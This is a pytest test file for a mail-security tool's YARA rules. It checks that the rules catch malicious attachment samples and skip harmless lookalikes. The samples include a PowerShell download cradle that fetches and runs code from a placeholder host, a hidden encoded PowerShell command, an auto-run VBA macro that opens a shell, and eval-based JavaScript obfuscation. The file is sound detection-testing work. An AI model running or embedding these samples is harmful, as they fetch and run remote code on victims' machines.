"""YARA: the shipped set compiles and catches its samples; operator folders load or fail loudly."""

from __future__ import annotations

from pathlib import Path

import pytest
import yara  # type: ignore[import-not-found]

from tests.domains.mail import fixtures_attachments as fx
from tradeguard.domains.mail.attachments import analyse_attachments
from tradeguard.domains.mail.message import MailError
from tradeguard.domains.mail.yara_rules import MAX_MATCHES, SHIPPED_DIR, YaraRules, YaraScan

SAMPLES = {
    "TG_PowerShell_Download_Cradle": (
        b"powershell -nop -c \"IEX (New-Object Net.WebClient).DownloadString('https://x.example/a')\""
    ),
    "TG_PowerShell_Encoded_Command": (
        b"cmd /c powershell.exe -NoProfile -w hidden -enc "
        b"SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"
    ),
    "TG_VBA_AutoExec_Shell": (
        b'Sub Document_Open()\r\n  Set s = CreateObject("WScript.Shell")\r\nEnd Sub'
    ),
    "TG_JavaScript_Obfuscation": b"var c = String.fromCharCode(97, 108, 101); eval(c + '(1)');",
    "TG_HTML_Smuggling_Script": fx.smuggling_page(),
    "TG_Phishing_Kit_Credential_Form": fx.login_page(),
    "TG_LNK_Launches_Shell": fx.lnk(),
    "TG_OneNote_Embedded_Script_Or_Program": fx.onenote_with_file(),
    "TG_PE_Packed_UPX": fx.pe((b"UPX0", b"UPX1", b".rsrc")),
    "TG_Apple_Profile_Adds_Account": fx.apple_profile("com.apple.caldav.account"),
}
HARMLESS = [
    fx.pdf(),
    fx.newsletter(),
    fx.subscribe_form(),
    b"<script>var a = new Uint8Array(4); String.fromCharCode(a[0]); button.click();</script>",
    fx.pe(),
    fx.apple_profile("com.apple.wifi.managed"),
    fx.lnk(r"C:\Users\li\Documents\Quarterly report.docx"),
    fx.onenote_with_file(b"meeting notes, nothing more"),
    b'Sub Report()\r\n  MsgBox "Done"\r\nEnd Sub',
    b"Run the PowerShell script from the wiki to download the file, then shell out to git.",
]


@pytest.fixture(scope="module")
def rules() -> YaraRules:
    return YaraRules.load()


def test_starter_set_compiles_with_the_required_meta() -> None:
    shipped = sorted(SHIPPED_DIR.glob("*.yar"))
    compiled = yara.compile(filepaths={p.stem: str(p) for p in shipped})
    names = {rule.identifier: rule.meta for rule in compiled}
    assert set(names) == set(SAMPLES)
    for meta in names.values():
        assert meta["author"] == "TradeGuard"
        assert meta["description"]
        assert meta["reference"].startswith("https://")


@pytest.mark.parametrize(("rule", "sample"), SAMPLES.items())
def test_each_shipped_rule_matches_its_sample(rules: YaraRules, rule: str, sample: bytes) -> None:
    assert rule in rules.match(sample)


@pytest.mark.parametrize("sample", HARMLESS)
def test_shipped_rules_stay_quiet_on_harmless_lookalikes(rules: YaraRules, sample: bytes) -> None:
    assert rules.match(sample) == []


def test_a_user_folder_rule_is_picked_up_with_the_filename(tmp_path: Path) -> None:
    (tmp_path / "shop.yar").write_text(
        'rule Shop_Fake_Invoice { strings: $a = "INV-2026-" condition: $a }'
    )
    (tmp_path / "names.yara").write_text('rule Shop_Js_Name { condition: extension == "js" }')
    (tmp_path / "notes.txt").write_text("not a rule file, never loaded")
    rules = YaraRules.load([tmp_path])
    assert rules.match(b"Payment for INV-2026-0042") == ["Shop_Fake_Invoice"]
    assert rules.match(b"x", filename="Invoice.JS") == ["Shop_Js_Name"]
    assert len(rules.files) == len(list(SHIPPED_DIR.glob("*.yar"))) + 2


def test_a_broken_user_rule_names_the_file_and_the_line(tmp_path: Path) -> None:
    broken = tmp_path / "broken.yar"
    broken.write_text("rule Fine { condition: true }\n\nrule Broken {\n  condition: nosuch\n\n}\n")
    with pytest.raises(MailError, match=r"broken\.yar has an error on line 4: undefined identif"):
        YaraRules.load([tmp_path])


def test_a_missing_folder_is_an_error(tmp_path: Path) -> None:
    with pytest.raises(MailError, match="does not exist"):
        YaraRules.load([tmp_path / "nowhere"])


def test_matches_are_bounded_with_a_note(tmp_path: Path) -> None:
    many = "\n".join(f"rule Always_{i} {{ condition: true }}" for i in range(MAX_MATCHES + 10))
    (tmp_path / "many.yar").write_text(many)
    scan = YaraRules.load([tmp_path]).scan(b"anything")
    assert len(scan.rules) == MAX_MATCHES
    assert "stopped" in scan.note


class _Stalls:
    """Stands in for compiled rules whose scan hits yara's time limit."""

    def match(self, **_: object) -> None:
        raise yara.TimeoutError("internal error: 30")


def test_a_timeout_is_no_match_and_a_note() -> None:
    rules = YaraRules(_Stalls(), [])
    assert rules.scan(b"x") == YaraScan((), "YARA scan stopped after 2 s")
    _, [facts] = analyse_attachments([fx.attachment("a.bin", b"x")], yara=rules)
    assert facts.flags == ()
    assert "YARA scan stopped after 2 s" in facts.details


def test_yara_match_finding_lists_the_rules(rules: YaraRules) -> None:
    found, _ = analyse_attachments([fx.attachment("Invoice.pdf.lnk", fx.lnk())], yara=rules)
    [finding] = [f for f in found if f.code == "yara_match"]
    assert finding.evidence == {"filename": "Invoice.pdf.lnk", "rules": "TG_LNK_Launches_Shell"}
